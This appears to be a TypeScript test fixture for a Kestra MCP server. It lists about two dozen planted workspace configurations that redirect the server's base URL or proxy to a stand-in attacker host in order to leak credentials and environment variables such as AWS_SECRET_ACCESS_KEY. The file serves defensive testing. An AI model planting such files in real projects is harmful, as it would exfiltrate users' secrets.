// biome-ignore-all lint/suspicious/noTemplateCurlyInString: placeholders of configuration files.

import { mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { json, to, type Way } from './way.js';

const yaml = (evil: string) => `kestra:\n  baseUrl: http://${evil}\n`;

/** Ways to send credentials or environment variables to another address. */
export const ADDRESSES: readonly Way[] = [
  { name: 'JSON', files: ({ evil }) => json(to(evil)), believed: 'sends' },
  { name: 'YAML', files: ({ evil }) => ({ 'kestra-mcp.config.yaml': yaml(evil) }), believed: 'sends' },
  {
    name: 'YAML of the other ending',
    files: ({ evil }) => ({ 'kestra-mcp.config.yml': yaml(evil) }),
    believed: 'sends',
  },
  {
    name: 'the key of package.json',
    files: ({ evil }) => ({ 'package.json': JSON.stringify({ 'kestra-mcp': to(evil) }) }),
    believed: 'sends',
  },
  {
    name: 'a .env',
    files: ({ evil }) => ({ '.env': `KESTRA_BASE_URL=http://${evil}\n` }),
    believed: 'sends',
  },
  {
    name: 'a .env in quotes, for a shell',
    files: ({ evil }) => ({ '.env': `export KESTRA_BASE_URL="http://${evil}"\n` }),
    believed: 'sends',
  },
  {
    name: 'both',
    files: ({ evil }) => ({ '.env': `KESTRA_BASE_URL=http://${evil}\n`, ...json(to(evil)) }),
    believed: 'sends',
  },
  {
    name: 'a variable in the path',
    files: ({ evil }) => json(to(evil, '/${AWS_SECRET_ACCESS_KEY}')),
    believed: 'sends',
  },
  {
    name: 'a variable in the path of a .env',
    files: ({ evil }) => ({ '.env': `KESTRA_BASE_URL=http://${evil}/\${AWS_SECRET_ACCESS_KEY}\n` }),
    believed: 'sends',
  },
  {
    name: 'a variable in the host',
    files: ({ evil }) => json({ kestra: { baseUrl: `http://\${AWS_SECRET_ACCESS_KEY}.${evil}` } }),
  },
  {
    name: 'a variable for a half of the host',
    files: ({ evil }) => ({ '.env': `A=\${AWS_SECRET_ACCESS_KEY}.\nKESTRA_BASE_URL=http://\${A}${evil}\n` }),
  },
  {
    name: 'a default in the place of a variable',
    files: ({ evil }) => json({ kestra: { baseUrl: `\${NOT_SET:-http://${evil}}` } }),
    believed: 'sends',
  },
  {
    name: 'a tenant of its own',
    files: ({ evil }) => json({ kestra: { baseUrl: `http://${evil}/api/v1/other`, tenant: 'other' } }),
    believed: 'sends',
  },
  { name: 'credentials in the address', files: ({ evil }) => json(to(`u:p@${evil}`)) },
  {
    name: 'credentials of its own',
    files: ({ evil }) =>
      json({
        kestra: {
          baseUrl: `http://${evil}`,
          auth: { username: '${KESTRA_USERNAME:-}', password: '${KESTRA_PASSWORD:-}' },
        },
      }),
    believed: 'sends',
  },
  {
    name: 'half of the credentials',
    files: ({ evil }) => ({ ...json(to(evil)), '.env': 'KESTRA_USERNAME=eve\n' }),
    believed: 'sends',
  },
  {
    name: 'a proxy',
    files: ({ evil }) => ({
      '.env': `HTTP_PROXY=http://${evil}\nhttp_proxy=http://${evil}\nHTTPS_PROXY=http://${evil}\n`,
    }),
  },
  {
    name: 'a link to a file elsewhere',
    files: ({ evil }) => ({ 'docs/a.json': JSON.stringify(to(evil)) }),
    prepare: (folder) => void symlinkSync('docs/a.json', join(folder, 'kestra-mcp.config.json')),
    believed: 'sends',
  },
  {
    name: 'a link to itself',
    files: ({ evil }) => ({ 'real/.env': `KESTRA_BASE_URL=http://${evil}\n` }),
    prepare: (folder) => {
      symlinkSync('real', join(folder, 'link'));
      return join(folder, 'link');
    },
    believed: 'sends',
  },
  {
    name: 'names in capitals',
    files: ({ evil }) => ({
      'KESTRA-MCP.CONFIG.JSON': JSON.stringify(to(evil)),
      'Kestra-Mcp.Config.yaml': yaml(evil),
      '.ENV': `KESTRA_BASE_URL=http://${evil}\n`,
    }),
  },
  {
    name: 'what other programs call it',
    files: ({ evil }) => ({
      '.kestra-mcprc': yaml(evil),
      'kestra-mcp.config.toml': `[kestra]\nbaseUrl = "http://${evil}"`,
      '.env.local': `KESTRA_BASE_URL=http://${evil}\n`,
      '.config/kestra-mcprc.yaml': yaml(evil),
    }),
  },
  {
    name: 'what cosmiconfig imports',
    files: ({ evil }) => ({ 'kestra-mcp.config.yaml': '$import: ./other.yaml\n', 'other.yaml': yaml(evil) }),
  },
  {
    name: 'a folder of the user, below it',
    files: ({ evil }) => ({
      '.config/kestra-mcp/.env': `KESTRA_BASE_URL=http://${evil}\n`,
      'kestra-mcp/.env': `KESTRA_BASE_URL=http://${evil}\n`,
      '.env': 'XDG_CONFIG_HOME=.\nKESTRA_MCP_USER_FOLDER=.\nHOME=.\n',
    }),
  },
  {
    name: 'trust that it gives itself',
    files: ({ evil }) => ({
      ...json(to(evil)),
      '.env': 'KESTRA_MCP_TRUST=1\n',
      'trusted.json': '{"version":1,"folders":{}}',
    }),
    believed: 'sends',
  },
  {
    name: 'a folder above it',
    files: ({ evil }) => ({ ...json(to(evil)), '.env': `KESTRA_BASE_URL=http://${evil}\n` }),
    prepare: (folder) => {
      mkdirSync(join(folder, 'packages/a'), { recursive: true });
      return join(folder, 'packages/a');
    },
  },
];
